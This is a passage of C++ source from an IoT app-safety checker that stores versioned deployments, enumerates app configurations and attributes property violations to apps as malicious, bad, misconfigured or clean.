    fresh.deployment = std::move(deployment);
    fresh.record_loaded = config_.dir.empty();  // nothing on disk to read
    lru_.push_front(std::move(fresh));
    index_[lru_.front().id] = lru_.begin();
    EvictLocked();
  }
  if (auto* t = telemetry::Active()) ++t->registry.deployments_put;
  return revision;
}

std::optional<StoredDeployment> DeploymentStore::Get(const std::string& id) {
  if (!IsValidDeploymentId(id)) return std::nullopt;
  std::lock_guard<std::mutex> lock(mutex_);
  Entry* entry = FindLocked(id);
  if (entry == nullptr) entry = LoadLocked(id);
  if (entry == nullptr) return std::nullopt;
  return entry->deployment;
}

bool DeploymentStore::Remove(const std::string& id) {
  if (!IsValidDeploymentId(id)) return false;
  std::lock_guard<std::mutex> lock(mutex_);
  bool existed = false;
  if (auto it = index_.find(id); it != index_.end()) {
    lru_.erase(it->second);
    index_.erase(it);
    existed = true;
  }
  if (!config_.dir.empty()) {
    std::error_code ec;
    existed = fs::remove_all(DirFor(id), ec) > 0 || existed;
  }
  if (existed) {
    if (auto* t = telemetry::Active()) ++t->registry.deployments_deleted;
  }
  return existed;
}

std::vector<std::string> DeploymentStore::List() {
  std::lock_guard<std::mutex> lock(mutex_);
  std::set<std::string> ids;
  for (const Entry& entry : lru_) ids.insert(entry.id);
  if (!config_.dir.empty()) {
    std::error_code ec;
    for (const fs::directory_entry& entry :
         fs::directory_iterator(config_.dir, ec)) {
      if (!entry.is_directory()) continue;
      const std::string id = entry.path().filename().string();
      if (IsValidDeploymentId(id)) ids.insert(id);
    }
  }
  return {ids.begin(), ids.end()};
}

std::optional<CheckRecord> DeploymentStore::GetRecord(const std::string& id) {
  if (!IsValidDeploymentId(id)) return std::nullopt;
  std::lock_guard<std::mutex> lock(mutex_);
  Entry* entry = FindLocked(id);
  if (entry == nullptr) entry = LoadLocked(id);
  if (entry == nullptr) return std::nullopt;
  if (!entry->record_loaded) {
    entry->record_loaded = true;
    const std::string path = DirFor(id) + "/record.json";
    const std::string text = util::ReadFileOrEmpty(path);
    if (!text.empty()) {
      try {
        entry->record = CheckRecordFromJson(json::Parse(text));
      } catch (const Error& e) {
        // A corrupt record only costs reuse: the next check runs full.
        if (auto* t = telemetry::Active()) ++t->registry.corrupt_entries;
        util::LogDebug("registry", "unreadable check record ignored",
                       {{"path", path}, {"reason", e.what()}});
      }
    }
  }
  return entry->record;
}

void DeploymentStore::PutRecord(const std::string& id,
                                const CheckRecord& record) {
  if (!IsValidDeploymentId(id)) return;
  std::lock_guard<std::mutex> lock(mutex_);
  Entry* entry = FindLocked(id);
  if (entry == nullptr) entry = LoadLocked(id);
  if (entry == nullptr) return;  // deleted mid-check: drop the record
  entry->record = record;
  entry->record_loaded = true;
  if (!config_.dir.empty()) {
    fs::create_directories(DirFor(id));
    util::AtomicWriteFile(DirFor(id) + "/record.json",
                          CheckRecordToJson(record).Dump(0) + "\n");
  }
}

}  // namespace iotsan::registry
