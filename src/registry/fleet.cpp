#include "registry/fleet.hpp"

#include <chrono>

#include "telemetry/telemetry.hpp"

namespace iotsan::registry {

std::vector<Fleet::Status> Fleet::List() {
  std::vector<Status> out;
  for (const std::string& id : store_.List()) {
    auto deployment = store_.Get(id);
    if (!deployment) continue;  // corrupt or deleted between list and get
    Status status;
    status.id = id;
    status.revision = deployment->revision;
    if (auto record = store_.GetRecord(id)) {
      status.checked_revision = record->revision;
      status.verdict = record->verdict;
      status.groups_total = record->groups_total;
      status.groups_recomputed = record->groups_recomputed;
      status.check_seconds = record->check_seconds;
    }
    out.push_back(std::move(status));
  }
  return out;
}

std::optional<Fleet::CheckOutcome> Fleet::Check(
    const std::string& id, std::optional<std::uint64_t> if_match,
    const core::RequestOptions& options, const core::ServiceEnv& env) {
  auto deployment = store_.Get(id);
  if (!deployment) return std::nullopt;
  if (if_match && *if_match != deployment->revision) {
    if (auto* t = telemetry::Active()) ++t->registry.revision_conflicts;
    throw RevisionConflict(*if_match, deployment->revision);
  }
  auto prior = store_.GetRecord(id);

  // Per-tenant attribution: the span carries the deployment id next to
  // the request id, so `iotsan_trace summary` can split fleet traffic.
  telemetry::ScopedSpan span("registry_check");
  span.Attr("deployment", id);
  span.Attr("revision", static_cast<std::int64_t>(deployment->revision));
  if (!env.request_id.empty()) span.Attr("request_id", env.request_id);

  core::CheckRequest request;
  request.deployment = deployment->deployment;
  request.extra_sources = deployment->app_sources;
  request.extra_properties = deployment->ExtraProperties();
  request.options = options;

  const auto wall_start = std::chrono::steady_clock::now();
  RegistryCheckOutcome outcome =
      RunRegistryCheck(request, env, prior ? &*prior : nullptr);
  const double wall_seconds = std::chrono::duration<double>(
                                  std::chrono::steady_clock::now() -
                                  wall_start)
                                  .count();
  span.Attr("groups_reused",
            static_cast<std::int64_t>(outcome.groups_reused));
  span.Attr("groups_recomputed",
            static_cast<std::int64_t>(outcome.groups_recomputed));

  outcome.record.revision = deployment->revision;
  outcome.record.check_seconds = wall_seconds;
  store_.PutRecord(id, outcome.record);

  if (auto* t = telemetry::Active()) {
    const auto us = static_cast<std::uint64_t>(wall_seconds * 1e6);
    if (outcome.groups_reused > 0) {
      t->registry_hist.delta_check_duration_us.Record(us);
    } else {
      t->registry_hist.full_check_duration_us.Record(us);
    }
  }

  CheckOutcome out;
  out.response = std::move(outcome.response);
  out.revision = deployment->revision;
  out.groups_total = outcome.groups_total;
  out.groups_reused = outcome.groups_reused;
  out.groups_recomputed = outcome.groups_recomputed;
  out.check_seconds = wall_seconds;
  return out;
}

}  // namespace iotsan::registry
