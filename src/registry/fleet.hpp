// Fleet facade: the thread-safe orchestration layer the REST surface
// and the tests drive — deployment lifecycle (put/get/remove/list),
// the If-Match revision guard, and check dispatch through the delta
// engine with retained-result bookkeeping (docs/fleet.md).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "core/service.hpp"
#include "registry/delta.hpp"
#include "registry/deployment_store.hpp"
#include "util/error.hpp"

namespace iotsan::registry {

/// Thrown by Fleet::Check when the caller's If-Match revision is stale;
/// the HTTP layer maps it to 409 with the current revision attached.
class RevisionConflict : public Error {
 public:
  RevisionConflict(std::uint64_t expected, std::uint64_t current)
      : Error("revision conflict: expected " + std::to_string(expected) +
              ", current is " + std::to_string(current)),
        expected_revision(expected),
        current_revision(current) {}
  std::uint64_t expected_revision;
  std::uint64_t current_revision;
};

class Fleet {
 public:
  explicit Fleet(StoreConfig config) : store_(std::move(config)) {}

  /// Upserts and returns the new revision (the ETag token).  Throws
  /// iotsan::Error on an invalid id.
  std::uint64_t Put(StoredDeployment deployment) {
    return store_.Put(std::move(deployment));
  }

  std::optional<StoredDeployment> Get(const std::string& id) {
    return store_.Get(id);
  }

  bool Remove(const std::string& id) { return store_.Remove(id); }

  /// One row of GET /v1/deployments.
  struct Status {
    std::string id;
    std::uint64_t revision = 0;
    /// Revision the retained record checked (0 = never checked; less
    /// than `revision` = the last verdict is stale).
    std::uint64_t checked_revision = 0;
    std::string verdict = "unchecked";
    std::uint64_t groups_total = 0;
    std::uint64_t groups_recomputed = 0;
    double check_seconds = 0;
  };
  std::vector<Status> List();

  struct CheckOutcome {
    core::CheckResponse response;
    std::uint64_t revision = 0;
    std::uint64_t groups_total = 0;
    std::uint64_t groups_reused = 0;
    std::uint64_t groups_recomputed = 0;
    /// Wall-clock latency of this check (the histogram's sample; the
    /// response's `seconds` stays the deterministic per-group sum).
    double check_seconds = 0;
  };
  /// Checks the deployment's current revision, reusing the retained
  /// prior where fingerprints match.  nullopt when `id` is unknown;
  /// throws RevisionConflict when `if_match` names a stale revision.
  std::optional<CheckOutcome> Check(const std::string& id,
                                    std::optional<std::uint64_t> if_match,
                                    const core::RequestOptions& options,
                                    const core::ServiceEnv& env);

  DeploymentStore& store() { return store_; }

 private:
  DeploymentStore store_;
};

}  // namespace iotsan::registry
