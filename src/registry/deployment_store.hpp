// Persistent, versioned deployment storage for the fleet registry
// (docs/fleet.md).
//
// Layout: one directory per deployment id under the registry dir —
//   <dir>/<id>/deployment.json   schema iotsan.deployment/1
//   <dir>/<id>/record.json       retained results of the last check
// Writes are atomic tmp+rename (util::AtomicWriteFile), so readers and
// crashed writers never surface a half-written entry; anything
// unreadable or schema-mismatched is treated as not_found, never an
// error.  A small LRU layer keeps hot deployments in memory; the disk
// copy stays authoritative, so eviction only drops the cached copy
// (with no directory configured the store is memory-only and nothing
// is ever evicted).
#pragma once

#include <cstdint>
#include <list>
#include <map>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "cache/result_cache.hpp"
#include "config/deployment.hpp"
#include "props/property.hpp"

namespace iotsan::registry {

inline constexpr char kDeploymentSchema[] = "iotsan.deployment/1";
inline constexpr char kRecordSchema[] = "iotsan.deployment.record/1";

/// Same charset as request ids; doubles as path-traversal protection
/// (ids become directory names).
bool IsValidDeploymentId(const std::string& id);

/// One versioned deployment: the config, its inline app sources and
/// user properties, and the monotonic revision token (the HTTP layer's
/// ETag).
struct StoredDeployment {
  std::string id;
  std::uint64_t revision = 0;
  config::Deployment deployment;
  /// App sources by definition name (overrides/extends the corpus).
  std::map<std::string, std::string> app_sources;
  /// Raw JSON array of user property objects ("" = none): kept as text
  /// so persistence round-trips exactly what the client PUT.
  std::string properties_json;

  /// Parses `properties_json` (empty vector when none).
  std::vector<props::Property> ExtraProperties() const;
};

/// The retained outcome of a deployment's last check: every group's
/// result keyed by its GroupKey fingerprint — the reuse map the delta
/// engine classifies the next revision against — plus the summary the
/// status list serves.
struct CheckRecord {
  std::uint64_t revision = 0;   // deployment revision that was checked
  std::string cache_version;    // fingerprint version the keys used
  std::string verdict;          // "clean" | "violations"
  int exit_code = 0;
  double check_seconds = 0;     // wall-clock duration of that check
  std::uint64_t groups_total = 0;
  std::uint64_t groups_recomputed = 0;  // dirty + added groups re-run

  struct Group {
    cache::GroupKey key;
    checker::CheckResult result;
  };
  /// Retained per-group results in dispatch order.  Only replayable
  /// results are kept (same rule as the result cache), so a missing
  /// group simply recomputes.
  std::vector<Group> groups;
};

json::Value StoredDeploymentToJson(const StoredDeployment& deployment);
/// Throws iotsan::Error on schema/shape mismatch (callers map that to
/// not_found).
StoredDeployment StoredDeploymentFromJson(const json::Value& doc);
json::Value CheckRecordToJson(const CheckRecord& record);
CheckRecord CheckRecordFromJson(const json::Value& doc);

struct StoreConfig {
  /// Persistence root ("" = memory-only).
  std::string dir;
  /// LRU capacity of the in-memory layer (deployments resident).
  std::size_t memory_entries = 64;
};

/// Thread-safe store; every returned object is a private copy, so
/// callers can run long checks without holding any store lock.
class DeploymentStore {
 public:
  explicit DeploymentStore(StoreConfig config);

  /// Upserts `deployment` (its `revision` field is ignored) and returns
  /// the new revision: monotonic per id, seeded from disk across
  /// restarts.  Throws iotsan::Error on an invalid id.
  std::uint64_t Put(StoredDeployment deployment);

  std::optional<StoredDeployment> Get(const std::string& id);

  /// Removes the deployment and its record; false when absent.
  bool Remove(const std::string& id);

  /// All deployment ids, sorted (union of memory and disk).
  std::vector<std::string> List();

  std::optional<CheckRecord> GetRecord(const std::string& id);

  /// Stores the retained results of a finished check.  A no-op when the
  /// deployment was deleted mid-check.
  void PutRecord(const std::string& id, const CheckRecord& record);

  const StoreConfig& config() const { return config_; }

 private:
  struct Entry {
    std::string id;
    StoredDeployment deployment;
    std::optional<CheckRecord> record;
    bool record_loaded = false;  // lazy: record.json read on first ask
  };

  std::string DirFor(const std::string& id) const;
  Entry* FindLocked(const std::string& id);
  Entry* LoadLocked(const std::string& id);
  void TouchLocked(std::list<Entry>::iterator it);
  void EvictLocked();

  StoreConfig config_;
  std::mutex mutex_;
  std::list<Entry> lru_;  // front = most recent
  std::map<std::string, std::list<Entry>::iterator> index_;
};

}  // namespace iotsan::registry
