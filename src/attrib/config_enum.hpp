// Configuration enumeration (paper §9 phase 1/2) and the simulated
// non-expert ("volunteer") configuration generator (paper §10.1).
#pragma once

#include <string>
#include <vector>

#include "config/deployment.hpp"
#include "dsl/ast.hpp"
#include "util/rng.hpp"

namespace iotsan::attrib {

struct EnumOptions {
  /// Cap on the number of configurations produced (the Cartesian product
  /// over inputs is cut off deterministically at this size).
  int max_configs = 64;
};

/// Enumerates possible configurations of `app` against the devices of
/// `deployment`:
///   * capability inputs bind every compatible device (and, when
///     `multiple`, also the full compatible set),
///   * enum inputs take each declared option,
///   * mode inputs take each location mode,
///   * numeric inputs take representative values chosen by input name
///     (setpoints, delays, percentages),
///   * phone inputs take the configured contact.
/// Returns at least one configuration when all required inputs can be
/// bound, and an empty vector otherwise.
std::vector<config::AppConfig> EnumerateConfigs(
    const dsl::App& app, const config::Deployment& deployment,
    const EnumOptions& options = {});

/// Draws one plausible non-expert configuration, reproducing the
/// misconfiguration patterns of the paper's user study (§2.2, §10.1):
/// users bind several outlets where one is expected, pick confusable
/// devices with the right capability but the wrong role, and guess
/// thresholds.  Deterministic in `rng`.
config::AppConfig GenerateVolunteerConfig(const dsl::App& app,
                                          const config::Deployment& deployment,
                                          Rng& rng);

}  // namespace iotsan::attrib
