#include "attrib/config_enum.hpp"

#include <algorithm>
#include <set>

#include "devices/device_type.hpp"
#include "dsl/type_infer.hpp"
#include "util/strings.hpp"

namespace iotsan::attrib {

namespace {

std::vector<std::string> CompatibleDevices(const config::Deployment& deployment,
                                           const std::string& capability) {
  std::vector<std::string> out;
  for (const config::DeviceConfig& device : deployment.devices) {
    const devices::DeviceTypeSpec* type =
        devices::DeviceTypeRegistry::Instance().Find(device.type);
    if (type != nullptr && type->HasCapability(capability)) {
      out.push_back(device.id);
    }
  }
  return out;
}

bool ContainsAny(const std::string& haystack,
                 std::initializer_list<const char*> needles) {
  const std::string lowered = strings::ToLower(haystack);
  for (const char* needle : needles) {
    if (lowered.find(needle) != std::string::npos) return true;
  }
  return false;
}

/// Representative numeric candidates chosen by input name, matching how
/// users fill in thresholds.
std::vector<double> NumericCandidates(const dsl::InputDecl& input) {
  if (ContainsAny(input.name, {"setpoint", "temp", "heat", "cool", "cold",
                               "hot", "degree"})) {
    return {65, 75, 85};
  }
  if (ContainsAny(input.name, {"minute", "second", "delay", "time"})) {
    return {5};
  }
  if (ContainsAny(input.name, {"percent", "humid", "moist", "dry", "wet",
                               "threshold", "battery", "point"})) {
    return {20, 60};
  }
  if (ContainsAny(input.name, {"lux", "light", "dark"})) {
    return {100};
  }
  return {1};
}

/// All candidate bindings for one input.
std::vector<config::Binding> CandidateBindings(
    const dsl::InputDecl& input, const config::Deployment& deployment) {
  std::vector<config::Binding> out;
  const dsl::Type type = dsl::InputDeclType(input);
  const bool is_device =
      type.is_device() || (type.is_list() && type.element().is_device());

  if (is_device) {
    const std::string capability = type.is_list()
                                       ? type.element().capability()
                                       : type.capability();
    std::vector<std::string> compatible =
        CompatibleDevices(deployment, capability);
    for (const std::string& id : compatible) {
      config::Binding binding;
      binding.device_ids = {id};
      out.push_back(std::move(binding));
    }
    if (input.multiple && compatible.size() > 1) {
      config::Binding binding;
      binding.device_ids = compatible;
      out.push_back(std::move(binding));
    }
    return out;
  }

  if (input.type == "number" || input.type == "decimal") {
    for (double v : NumericCandidates(input)) {
      config::Binding binding;
      binding.number = v;
      out.push_back(std::move(binding));
    }
    return out;
  }
  if (input.type == "enum") {
    for (const std::string& option : input.options) {
      config::Binding binding;
      binding.text = option;
      out.push_back(std::move(binding));
    }
    if (out.empty()) {
      config::Binding binding;
      binding.text = "default";
      out.push_back(std::move(binding));
    }
    return out;
  }
  if (input.type == "mode") {
    for (const std::string& mode : deployment.modes) {
      config::Binding binding;
      binding.text = mode;
      out.push_back(std::move(binding));
    }
    return out;
  }
  if (input.type == "phone" || input.type == "contact") {
    config::Binding binding;
    binding.text = deployment.contact_phone.empty() ? "555-0100"
                                                    : deployment.contact_phone;
    out.push_back(std::move(binding));
    return out;
  }
  if (input.type == "bool" || input.type == "boolean") {
    config::Binding on;
    on.flag = true;
    out.push_back(std::move(on));
    config::Binding off;
    off.flag = false;
    out.push_back(std::move(off));
    return out;
  }
  if (input.type == "time") {
    config::Binding binding;
    binding.text = "22:00";
    out.push_back(std::move(binding));
    return out;
  }
  // text / unknown: a single placeholder value.
  config::Binding binding;
  binding.text = "value";
  out.push_back(std::move(binding));
  return out;
}

}  // namespace

std::vector<config::AppConfig> EnumerateConfigs(
    const dsl::App& app, const config::Deployment& deployment,
    const EnumOptions& options) {
  // Candidates per input; optional inputs additionally allow "unbound".
  struct InputChoices {
    const dsl::InputDecl* input;
    std::vector<config::Binding> candidates;
    bool allow_unbound;
  };
  std::vector<InputChoices> all;
  for (const dsl::InputDecl& input : app.inputs) {
    InputChoices choices;
    choices.input = &input;
    choices.candidates = CandidateBindings(input, deployment);
    choices.allow_unbound = !input.required;
    if (choices.candidates.empty() && input.required) {
      return {};  // unconfigurable: a required input has no candidates
    }
    all.push_back(std::move(choices));
  }

  // Mixed-radix enumeration: each input contributes a digit (candidates,
  // plus one "unbound" digit for optional inputs).  When the product
  // exceeds max_configs, configurations are sampled at an even stride so
  // the cut-off does not bias toward the first candidates of the leading
  // inputs.
  std::vector<std::size_t> radix;
  double total = 1;
  for (const InputChoices& choices : all) {
    const std::size_t digits =
        choices.candidates.size() + (choices.allow_unbound ? 1 : 0);
    radix.push_back(digits == 0 ? 1 : digits);
    total *= static_cast<double>(radix.back());
  }
  const double capped_total = std::min(total, 1e15);
  const std::size_t count = static_cast<std::size_t>(
      std::min<double>(capped_total, options.max_configs));
  if (count == 0) return {};

  // Deterministically sample `count` distinct combination indices.  A
  // fixed stride would align with the radix of the leading inputs and
  // bias the sample; seeded random sampling spreads it evenly.
  std::set<std::uint64_t> indices;
  if (static_cast<double>(count) == capped_total) {
    for (std::uint64_t i = 0; i < count; ++i) indices.insert(i);
  } else {
    Rng rng(0x107Au);  // fixed seed: enumeration is reproducible
    const auto bound = static_cast<std::uint64_t>(capped_total);
    while (indices.size() < count) {
      indices.insert(rng.NextBelow(bound));
    }
  }

  std::vector<config::AppConfig> configs;
  configs.reserve(count);
  for (std::uint64_t sampled : indices) {
    std::uint64_t index = sampled;
    config::AppConfig current;
    current.app = app.name;
    current.label = app.name;
    for (std::size_t i = 0; i < all.size(); ++i) {
      const std::size_t digit = index % radix[i];
      index /= radix[i];
      if (digit < all[i].candidates.size()) {
        current.inputs[all[i].input->name] = all[i].candidates[digit];
      }
      // digit == candidates.size(): optional input left unbound.
    }
    configs.push_back(std::move(current));
  }
  return configs;
}

config::AppConfig GenerateVolunteerConfig(const dsl::App& app,
                                          const config::Deployment& deployment,
                                          Rng& rng) {
  config::AppConfig out;
  out.app = app.name;
  out.label = app.name;

  for (const dsl::InputDecl& input : app.inputs) {
    const dsl::Type type = dsl::InputDeclType(input);
    const bool is_device =
        type.is_device() || (type.is_list() && type.element().is_device());

    if (is_device) {
      const std::string capability = type.is_list()
                                         ? type.element().capability()
                                         : type.capability();
      std::vector<std::string> compatible =
          CompatibleDevices(deployment, capability);
      if (compatible.empty()) continue;
      config::Binding binding;
      if (input.multiple && compatible.size() > 1 && rng.NextBool(0.5)) {
        // The §2.2 confusion: bind several compatible devices where the
        // developer expected one class of device ("the heater OR the AC").
        const std::size_t count =
            1 + rng.NextBelow(std::min<std::uint64_t>(compatible.size(), 3));
        std::vector<std::string> pool = compatible;
        for (std::size_t i = 0; i < count && !pool.empty(); ++i) {
          const std::size_t pick = rng.NextBelow(pool.size());
          binding.device_ids.push_back(pool[pick]);
          pool.erase(pool.begin() + static_cast<long>(pick));
        }
      } else {
        binding.device_ids.push_back(
            compatible[rng.NextBelow(compatible.size())]);
      }
      out.inputs[input.name] = std::move(binding);
      continue;
    }
    if (!input.required && rng.NextBool(0.3)) {
      continue;  // non-experts frequently skip optional inputs
    }
    config::Binding binding;
    if (input.type == "number" || input.type == "decimal") {
      std::vector<double> candidates = NumericCandidates(input);
      binding.number = candidates[rng.NextBelow(candidates.size())];
    } else if (input.type == "enum" && !input.options.empty()) {
      binding.text = input.options[rng.NextBelow(input.options.size())];
    } else if (input.type == "mode") {
      binding.text =
          deployment.modes[rng.NextBelow(deployment.modes.size())];
    } else if (input.type == "phone" || input.type == "contact") {
      binding.text = deployment.contact_phone.empty()
                         ? "555-0100"
                         : deployment.contact_phone;
    } else if (input.type == "bool" || input.type == "boolean") {
      binding.flag = rng.NextBool(0.5);
    } else {
      binding.text = "value";
    }
    out.inputs[input.name] = std::move(binding);
  }
  return out;
}

}  // namespace iotsan::attrib
