// Output Analyzer: violation attribution (paper §9).
//
// When a user installs a new app, IotSan enumerates the app's possible
// configurations and verifies each one:
//   * phase 1 — the new app alone.  A violation ratio above the threshold
//     (default 90%) attributes the app as potentially MALICIOUS.
//   * phase 2 — the new app together with the already-installed apps.  A
//     ratio above the threshold attributes it as a BAD APP; otherwise the
//     observed violations are attributed to MISCONFIGURATION and safe
//     configurations are suggested.  No violations => CLEAN.
#pragma once

#include <string>
#include <vector>

#include "attrib/config_enum.hpp"
#include "checker/checker.hpp"
#include "config/deployment.hpp"

namespace iotsan::cache {
class ResultCache;
}  // namespace iotsan::cache

namespace iotsan::attrib {

enum class Verdict {
  kMalicious,         // phase-1 ratio >= threshold
  kBadApp,            // phase-2 ratio >= threshold
  kMisconfiguration,  // some configurations violate, safe ones exist
  kClean,             // no violation in any configuration
};

std::string_view VerdictName(Verdict verdict);

struct AttributionOptions {
  /// Violation-ratio threshold (paper: "e.g., 90%").
  double threshold = 0.9;
  /// EXTENSION: vet dynamic-discovery apps instead of refusing them.
  bool allow_dynamic_discovery = false;
  EnumOptions enumeration;
  checker::CheckOptions check;
  /// Optional result cache shared by the baseline run and every phase-1 /
  /// phase-2 configuration probe.  Probes re-verify the same app-alone
  /// and joint groups across configurations, so a cache turns the
  /// enumeration from O(configs) searches into mostly lookups.  Not
  /// owned; nullptr disables.
  cache::ResultCache* cache = nullptr;
  AttributionOptions() { check.max_events = 2; }
};

struct AttributionResult {
  Verdict verdict = Verdict::kClean;
  double phase1_ratio = 0;
  double phase2_ratio = 0;
  int phase1_configs = 0;
  int phase2_configs = 0;
  /// Property ids violated across configurations (union).
  std::vector<std::string> violated_properties;
  /// One full counter-example per violated property (first configuration
  /// that produced it), carrying the structured trace for artifact
  /// export and replay.  Parallel to nothing: ordered by property id.
  std::vector<checker::Violation> evidence;
  /// Safe configurations found in phase 2 (suggestions to the user).
  std::vector<config::AppConfig> safe_configs;
};

/// Attributes app `app_source` (SmartScript text) being installed into
/// `deployment` (its devices plus previously-installed apps).  Violations
/// already present in the base system are not charged to the new app.
AttributionResult AttributeApp(const std::string& app_source,
                               const config::Deployment& deployment,
                               const AttributionOptions& options = {});

/// Convenience: look the app up in the bundled corpus by name.
AttributionResult AttributeCorpusApp(const std::string& app_name,
                                     const config::Deployment& deployment,
                                     const AttributionOptions& options = {});

/// Renders a short human-readable report.
std::string FormatAttribution(const std::string& app_name,
                              const AttributionResult& result);

}  // namespace iotsan::attrib
