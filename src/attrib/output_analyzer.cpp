#include "attrib/output_analyzer.hpp"

#include <algorithm>
#include <map>
#include <memory>
#include <set>

#include "core/sanitizer.hpp"
#include "corpus/corpus.hpp"
#include "dsl/parser.hpp"
#include "props/property.hpp"
#include "telemetry/telemetry.hpp"
#include "util/error.hpp"
#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace iotsan::attrib {

std::string_view VerdictName(Verdict verdict) {
  switch (verdict) {
    case Verdict::kMalicious: return "potentially malicious";
    case Verdict::kBadApp: return "bad app";
    case Verdict::kMisconfiguration: return "misconfiguration";
    case Verdict::kClean: return "clean";
  }
  return "?";
}

namespace {

/// Property ids violated by `deployment` with the candidate app acting
/// along the counter-example (violations the environment or other apps
/// produce on their own are never charged to the newcomer), beyond
/// `baseline`.
std::set<std::string> ViolationsOf(
    const config::Deployment& deployment, const std::string& app_source,
    const std::string& app_label, const AttributionOptions& attribution,
    const std::set<std::string>& baseline,
    std::map<std::string, checker::Violation>* evidence) {
  const checker::CheckOptions& check = attribution.check;
  core::Sanitizer sanitizer(deployment);
  // Register the candidate source under its definition name so instances
  // resolve even for non-corpus apps.
  dsl::App parsed = dsl::ParseApp(app_source, "<candidate>");
  sanitizer.AddAppSource(parsed.name, app_source);

  core::SanitizerOptions options;
  options.check = check;
  options.cache = attribution.cache;
  options.allow_dynamic_discovery = attribution.allow_dynamic_discovery;
  // Attribution widens the permutation space with user-initiated mode
  // switches (companion app), so mode-reactive attacks trigger even when
  // the candidate is installed alone.
  options.model.user_mode_events = true;
  core::SanitizerReport report = sanitizer.Check(options);
  std::set<std::string> ids;
  for (const checker::Violation& v : report.violations) {
    if (baseline.count(v.property_id)) continue;
    bool involved = false;
    for (const std::string& app : v.apps) {
      involved = involved || app == app_label;
    }
    if (!involved) continue;
    ids.insert(v.property_id);
    if (evidence != nullptr) evidence->emplace(v.property_id, v);
  }
  return ids;
}

}  // namespace

AttributionResult AttributeApp(const std::string& app_source,
                               const config::Deployment& deployment,
                               const AttributionOptions& options) {
  dsl::App parsed = dsl::ParseApp(app_source, "<candidate>");
  telemetry::ScopedSpan span("attribution");
  span.Attr("app", parsed.name);
  AttributionResult result;

  std::vector<config::AppConfig> configs =
      EnumerateConfigs(parsed, deployment, options.enumeration);
  if (auto* t = telemetry::Active()) {
    t->pipeline.configs_enumerated += configs.size();
    ++t->pipeline.attributions;
  }
  if (configs.empty()) {
    throw ConfigError("app '" + parsed.name +
                      "' cannot be configured against this deployment");
  }

  // Configurations are independent full pipeline runs, so both phases
  // fan them out across one pool shared with the nested sanitizer and
  // checker layers.  Per-config results are merged in enumeration order
  // below, so the report is identical to the serial loop's.
  const unsigned jobs = util::ResolveJobs(options.check.jobs);
  AttributionOptions run_options = options;
  std::unique_ptr<util::ThreadPool> owned_pool;
  if (jobs > 1 && run_options.check.pool == nullptr) {
    // Pre-parse the shared built-in property expressions before any
    // config worker can race on their lazy cache (invariants only;
    // monitor kinds have no expression).
    for (const props::Property& p : props::BuiltinProperties()) {
      if (p.kind == props::PropertyKind::kInvariant) p.ParsedExpression();
    }
    owned_pool = std::make_unique<util::ThreadPool>(jobs);
    run_options.check.pool = owned_pool.get();
    if (auto* t = telemetry::Active()) {
      ++t->parallel.pools_created;
      t->parallel.workers_spawned += owned_pool->jobs() - 1;
    }
  }
  util::ThreadPool* pool = run_options.check.pool;

  std::set<std::string> violated_union;
  // First counter-example seen per violated property, across all
  // configurations and both phases (std::map keeps them id-ordered).
  std::map<std::string, checker::Violation> evidence;

  // Baseline: violations the installed system already has without the
  // new app (never charged to the newcomer).
  std::set<std::string> baseline;
  {
    config::Deployment base = deployment;
    core::Sanitizer sanitizer(base);
    core::SanitizerOptions base_options;
    base_options.check = run_options.check;
    base_options.cache = run_options.cache;
    for (const checker::Violation& v :
         sanitizer.Check(base_options).violations) {
      baseline.insert(v.property_id);
    }
  }

  // One configuration's verdict: the violated ids plus the (first)
  // counter-example per id found while probing it.
  struct ConfigProbe {
    std::set<std::string> ids;
    std::map<std::string, checker::Violation> evidence;
  };
  auto probe_config = [&](const config::AppConfig& candidate, bool joint) {
    ConfigProbe probe;
    config::Deployment d = deployment;
    if (!joint) d.apps.clear();
    d.apps.push_back(candidate);
    probe.ids = ViolationsOf(d, app_source, candidate.label, run_options,
                             joint ? baseline : std::set<std::string>{},
                             &probe.evidence);
    return probe;
  };
  auto run_phase = [&](bool joint) {
    std::vector<ConfigProbe> probes(configs.size());
    auto body = [&](std::size_t i) { probes[i] = probe_config(configs[i], joint); };
    if (pool != nullptr) {
      pool->ParallelFor(configs.size(), body);
      if (auto* t = telemetry::Active()) {
        t->parallel.config_tasks += configs.size();
      }
    } else {
      for (std::size_t i = 0; i < configs.size(); ++i) body(i);
    }
    return probes;
  };

  // Phase 1: the new app alone (devices only, no other apps).
  int phase1_bad = 0;
  for (ConfigProbe& probe : run_phase(/*joint=*/false)) {
    if (!probe.ids.empty()) ++phase1_bad;
    violated_union.insert(probe.ids.begin(), probe.ids.end());
    for (auto& [id, violation] : probe.evidence) {
      evidence.emplace(id, std::move(violation));
    }
  }
  result.phase1_configs = static_cast<int>(configs.size());
  result.phase1_ratio =
      static_cast<double>(phase1_bad) / static_cast<double>(configs.size());

  if (result.phase1_ratio >= options.threshold) {
    result.verdict = Verdict::kMalicious;
    result.violated_properties.assign(violated_union.begin(),
                                      violated_union.end());
    for (auto& [id, violation] : evidence) {
      result.evidence.push_back(std::move(violation));
    }
    return result;
  }

  // Phase 2: jointly with the previously-installed apps.
  int phase2_bad = 0;
  {
    std::vector<ConfigProbe> probes = run_phase(/*joint=*/true);
    for (std::size_t i = 0; i < probes.size(); ++i) {
      ConfigProbe& probe = probes[i];
      if (!probe.ids.empty()) {
        ++phase2_bad;
        violated_union.insert(probe.ids.begin(), probe.ids.end());
        for (auto& [id, violation] : probe.evidence) {
          evidence.emplace(id, std::move(violation));
        }
      } else {
        result.safe_configs.push_back(configs[i]);
      }
    }
  }
  result.phase2_configs = static_cast<int>(configs.size());
  result.phase2_ratio =
      static_cast<double>(phase2_bad) / static_cast<double>(configs.size());
  result.violated_properties.assign(violated_union.begin(),
                                    violated_union.end());
  for (auto& [id, violation] : evidence) {
    result.evidence.push_back(std::move(violation));
  }

  if (result.phase2_ratio >= options.threshold) {
    result.verdict = Verdict::kBadApp;
  } else if (phase2_bad > 0) {
    result.verdict = Verdict::kMisconfiguration;
  } else {
    result.verdict = Verdict::kClean;
  }
  return result;
}

AttributionResult AttributeCorpusApp(const std::string& app_name,
                                     const config::Deployment& deployment,
                                     const AttributionOptions& options) {
  const corpus::CorpusApp* app = corpus::FindApp(app_name);
  if (app == nullptr) {
    throw ConfigError("app '" + app_name + "' is not in the corpus");
  }
  return AttributeApp(app->source, deployment, options);
}

std::string FormatAttribution(const std::string& app_name,
                              const AttributionResult& result) {
  char buffer[160];
  std::snprintf(buffer, sizeof(buffer),
